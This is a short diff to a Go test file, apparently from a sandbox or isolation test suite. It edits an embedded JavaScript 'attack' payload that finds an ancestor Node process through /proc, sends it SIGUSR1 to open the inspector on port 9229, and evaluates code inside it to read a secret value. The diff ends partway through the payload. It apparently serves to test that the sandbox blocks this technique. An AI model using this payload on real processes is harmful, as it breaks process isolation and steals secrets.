@@ -8,14 +8,15 @@ package inspector
 // on 127.0.0.1:9229 for 3 seconds (node opens it on a thread of its own)
 // and, found, evaluates code inside that node through it. It prints
 // "attack: node ancestor PID", then "attack: evaluated in pid PID: SECRET"
-// (SECRET the node's globalThis.SECRET) or "attack: inspector closed
-// CODE" (the error code of the last attempt).
+// (SECRET the node's globalThis.SECRET), "attack: inspector closed
+// CODE" (the error code of the last attempt) or, where the signal itself
+// is refused, "attack: signal refused CODE".
 const Attack = `const fs = require('fs'), http = require('http'), net = require('net'), crypto = require('crypto');
 let p = process.ppid;
 while (p > 1 && !/node$/.test(fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').split('\0')[0]))
   p = +/^PPid:\s+(\d+)/m.exec(fs.readFileSync('/proc/' + p + '/status', 'utf8'))[1];
 console.log('attack: node ancestor ' + p);
-process.kill(p, 'SIGUSR1');
+try { process.kill(p, 'SIGUSR1'); } catch (e) { console.log('attack: signal refused ' + e.code); process.exit(0); }
 const port = 9229, end = Date.now() + 3000;
 function frame(s) { const b = Buffer.from(s), m = crypto.randomBytes(4);
   const h = Buffer.from([0x81, 0x80 | 126, b.length >> 8, b.length & 255]);
